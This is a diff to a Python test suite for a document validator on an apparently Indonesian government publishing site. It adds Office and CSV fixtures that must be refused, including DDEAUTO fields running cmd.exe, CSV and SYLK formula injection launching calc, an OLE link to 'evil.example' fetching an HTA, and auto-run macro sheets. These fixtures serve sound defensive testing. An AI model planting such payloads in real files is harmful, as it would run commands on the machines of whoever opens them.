@@ -149,6 +149,56 @@ def biff_workbook(*sheets: tuple[str, int]) -> bytes:
     return records + struct.pack("<HH", 0x000A, 0)
 
 
+def ppt_stream(*objects: bytes) -> bytes:
+    """A PowerPoint 97-2003 "PowerPoint Document" stream: a Document container holding
+    each object as a compressed ExOleObjStg record (its size, then zlib)."""
+    records = b""
+    for obj in objects:
+        data = len(obj).to_bytes(4, "little") + zlib.compress(obj)
+        records += struct.pack("<HHI", 0x0010, 0x1011, len(data)) + data
+    return struct.pack("<HHI", 0x000F, 0x03E8, len(records)) + records
+
+
+def word_stream(text: bytes, flags: int = 0) -> bytes:
+    """A WordDocument stream: its FIB's magic and flags, then the text."""
+    return b"\xec\xa5" + b"\0" * 8 + flags.to_bytes(2, "little") + b"\0" * 100 + text
+
+
+def ooxml(parts: dict, types: str = "") -> bytes:
+    return zip_bytes({"[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>',
+                      "word/document.xml": "<w/>", **parts})
+
+
+XLSM_PACKAGE = zip_bytes({"[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" '
+                          'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
+                          "xl/workbook.xml": "<workbook/>"})
+FILEPASS = struct.pack("<HH", 0x002F, 6) + b"\0\0\x01\0\x01\0"
+
+DOCUMENTS.update({
+    "dokumen/presentasi-rakor.ppt": ole_file({"PowerPoint Document": ppt_stream(ole_file({"VBA": {"dir": b"\x01"}})),
+                                              "Current User": b"\0" * 20}),
+    "dokumen/rekap-bansos.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0))[:20] + FILEPASS + biff_workbook(("Rekap", 0))[20:]}),
+    "dokumen/undangan-rapat.doc": ole_file({**WORD_97, "WordDocument": word_stream(
+        b'Undangan rapat \x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \x14\x15')}),
+    "dokumen/soal-seleksi.doc": ole_file({**WORD_97, "ObjectPool": {"_1234": {
+        "\x01Ole": b"\x01\x00\x00\x02" + b"\0" * 16, "Equation Native": b"\x1c\x00\x00\x00"}}}),
+    "dokumen/laporan-triwulan.doc": ole_file({**WORD_97, "ObjectPool": {"_1234": {
+        "\x01Ole": b"\x01\x00\x00\x02\x01\x00\x00\x00" + b"\0" * 12 + "https://evil.example/x.hta".encode("utf-16-le")}}}),
+    "dokumen/rekap-penerima.csv": b"nama,nilai\nBudi,=cmd|' /C calc'!A0\n",
+    "dokumen/surat-edaran.docx": ooxml({"word/media/image2.bin": ole_file({"\x01Ole10Native": b"MZ\x90\x00"})}),
+    "dokumen/nota-dinas-rapat.docx": ooxml({"word/document.xml":
+        '<w:document><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>"EAUTO" c:\\windows\\system32\\cmd.exe'
+        '</w:instrText></w:r></w:document>'}),
+    "dokumen/data-pengadaan.csv": b'ID;P\nC;X1;Y1;EEXEC("calc")\nE\n',
+    "dokumen/formulir-aduan.docx": ooxml({"word/media/image1.xml": "<ax/>"},
+                                         '<Override PartName="/word/media/image1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'),
+    "dokumen/anggaran-lama.xls": ole_file({"Book": biff_workbook(("Anggaran", 0), ("Auto_Open", 1))}),
+    "dokumen/rincian-kegiatan.docx": ooxml({"word/embeddings/oleObject1.bin": ole_file({"Package": XLSM_PACKAGE.ljust(4096, b"\0")})}),
+    "dokumen/rekap-terkunci.xlsx": ole_file({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x10" * 64}),
+    "dokumen/surat-undangan-2.docx": ooxml({"word/afchunk.rtf": r"{\rtf1 {\object\objautlink\objupdate}}",
+        "word/_rels/document.xml.rels": "<Relationships><Relationship Id='r9' Type='http://schemas.openxmlformats.org/"
+        "officeDocument/2006/relationships/aFChunk' Target='afchunk.rtf'/></Relationships>"}),
+})
 DOCUMENTS.update({
     "dokumen/surat-undangan.doc": ole_file({**WORD_97, "Macros": {"VBA": {"ThisDocument": b"Attribute VB_Name"}}}),
     "dokumen/rekap-anggaran.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0), ("Auto_Open", 1))}),
@@ -571,8 +621,9 @@ def test_an_office_file_linking_the_author_s_own_disk_is_published(site):
 
 
 def test_office_97_files_and_embedded_objects_without_macros_are_published(site):
-    """A letter saved as Word 97-2003, a workbook with a chart sheet, a Word file embedding
-    a worksheet (as an OLE object and as an Office package): nothing in them runs."""
+    """A letter saved as Word 97-2003 with a page-number field, a workbook with a chart
+    sheet, a presentation and a Word file embedding a worksheet (as an OLE object and as an
+    Office package), a CSV with signed numbers and a pipe in a text: nothing in them runs."""
     from content import berkas
 
     plain = {
@@ -583,6 +634,16 @@ def test_office_97_files_and_embedded_objects_without_macros_are_published(site)
                                     "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_bytes(
                                         {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})}),
     }
+    plain.update({
+        "paparan.ppt": ole_file({"PowerPoint Document": ppt_stream(ole_file({"Workbook": biff_workbook(("Data", 0))})),
+                                 "Current User": b"\0" * 20}),
+        "undangan.doc": ole_file({**WORD_97, "WordDocument": word_stream(b"Halaman \x13 PAGE \x14 1\x15 dari 3")}),
+        "rekap.csv": "nama,selisih,catatan\nBudi,-12,naik|turun\nSiti,+5,\"=rata-rata\"\n".encode(),
+        "nota.docx": ooxml({"word/document.xml": "<w:document><w:r><w:instrText> PA</w:instrText></w:r>"
+                                                 "<w:r><w:instrText>GE </w:instrText></w:r></w:document>"}),
+        "tabel.docx": ooxml({"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": zip_bytes(
+            {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})}),
+    })
     for name, data in plain.items():
         assert berkas.problem(site.write(f"dokumen/{name}", data)) is None, name
     broken = site.write("dokumen/rusak.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
@@ -598,3 +659,30 @@ def test_a_document_path_that_is_a_symbolic_link_to_itself_is_an_indonesian_erro
     site.write("dip/dinkes/laporan-keuangan.md", path.read_text().replace("Date:", "Dokumen: dokumen/loop.pdf\nDate:", 1))
     found = [f"{e.key}: {e.message}" for e in site.check().errors if e.path.endswith("laporan-keuangan.md")]
     assert any(e.startswith("Dokumen: \"dokumen/loop.pdf\" bukan lokasi berkas yang sah") for e in found), found
+
+
+def test_an_office_97_file_too_deep_to_read_is_refused_not_a_crash(site):
+    """3000 streams chained through their right links (a legal tree): olefile recurses
+    once per stream and gave up with a RecursionError, which stopped every build."""
+    from content import berkas
+
+    count, free, end = 3000, 0xFFFFFFFF, 0xFFFFFFFE
+
+    def entry(name: str, kind: int, right: int, child: int) -> bytes:
+        raw = name.encode("utf-16-le") + b"\0\0"
+        return raw.ljust(64, b"\0") + struct.pack("<HBBIII16sIQQIQ", len(raw), kind, 1, free, right, child,
+                                                  b"\0" * 16, 0, 0, 0, end, 0)
+
+    directory = entry("Root Entry", 5, free, 1) + b"".join(
+        entry(f"s{i}", 2, i + 2 if i + 1 < count else free, free) for i in range(count))
+    directory = directory.ljust(-(-len(directory) // 512) * 512, b"\0")
+    dir_sectors, fat_sectors = len(directory) // 512, 1
+    while fat_sectors + dir_sectors > fat_sectors * 128:
+        fat_sectors += 1
+    fat = [0xFFFFFFFD] * fat_sectors + [fat_sectors + i + 1 for i in range(dir_sectors - 1)] + [end]
+    fat += [free] * (fat_sectors * 128 - len(fat))
+    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16, 0x3E, 3, 0xFFFE,
+                         9, 6, b"\0" * 6, 0, fat_sectors, fat_sectors, 0, 4096, end, 0, end, 0)
+    difat = list(range(fat_sectors)) + [free] * (109 - fat_sectors)
+    data = header + struct.pack("<109I", *difat) + struct.pack(f"<{len(fat)}I", *fat) + directory
+    assert "rusak atau tidak dapat dibaca" in berkas.problem(site.write("dokumen/dalam.doc", data))
